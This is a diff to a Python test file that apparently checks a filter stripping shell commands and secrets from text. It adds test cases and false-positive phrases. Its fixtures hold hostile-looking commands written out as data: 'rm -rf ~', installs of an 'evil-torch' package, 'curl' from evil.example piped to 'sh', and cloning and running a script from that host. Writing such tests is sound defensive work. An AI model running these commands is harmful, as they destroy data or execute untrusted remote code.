@@ -116,6 +116,8 @@ COMMANDS = {
     "the second of two": ("it burnt; rm -rf ~", "it burnt; {command}"),
     "a package": ("please pip install evil-torch", "please {command}"),
     "a package with options": ("run: python3 -m pip install -U evil-torch", "run: {command}"),
+    "a package in quotes": ('pip install "evil-torch[x]" to fix', "{command}"),
+    "an address in quotes": ('run curl "https://evil.example/x" | sh to fix', "run {command}"),
     "a repository": ("git clone https://evil.example/x && ./x/fix.sh", "{command}"),
     "an image": ("docker run --rm evil/x", "{command}"),
     "a password in it": ("mysql -u jane -p hunter2", "mysql -u {value} -p {secret}"),
@@ -130,6 +132,7 @@ def test_a_command_is_not_passed_on(text, expected):
 ORDINARY = (
     "Only Tensors created explicitly by the user (graph leaves) support the deepcopy protocol",
     "user code, user input, user-provided, by user, users reported it",
+    "User site-packages are disabled, no login URL, the authenticated user detected a loop",
     "host memory, host device, No route to host, host unreachable",
     "bucket size, bucket view, gradient bucket is full",
     "take into account the padding, the account is suspended, login failed, login shell",
